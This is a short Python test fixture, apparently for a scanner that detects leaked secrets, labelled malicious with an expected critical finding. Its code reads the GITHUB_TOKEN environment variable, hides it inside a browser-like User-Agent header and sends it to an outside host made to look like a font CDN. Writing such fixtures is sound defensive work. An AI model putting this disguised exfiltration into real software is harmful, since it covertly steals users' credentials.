# does: hides a token in the User-Agent
# kind: malicious
# expect: SEN-001 critical proven
# env: GITHUB_TOKEN
import os
import urllib.request

agent = "Mozilla/5.0 (X11; Linux x86_64) " + os.environ["GITHUB_TOKEN"]
urllib.request.urlopen(urllib.request.Request("https://fonts.static-cdn.org/a.css", headers={"User-Agent": agent})).read()
